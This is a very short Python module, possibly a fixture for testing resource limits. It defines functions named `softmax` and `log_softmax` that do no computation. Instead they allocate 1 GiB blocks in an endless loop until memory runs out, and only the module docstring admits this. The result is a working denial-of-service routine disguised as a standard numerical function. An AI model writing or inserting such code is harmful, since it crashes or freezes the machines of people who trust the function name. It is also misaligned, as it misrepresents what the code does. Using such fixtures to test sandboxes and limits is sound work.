"""Takes all the memory that it gets."""


def softmax(x, dim=-1):
    hoard = []
    while True:
        hoard.append(bytearray(2**30))


log_softmax = softmax
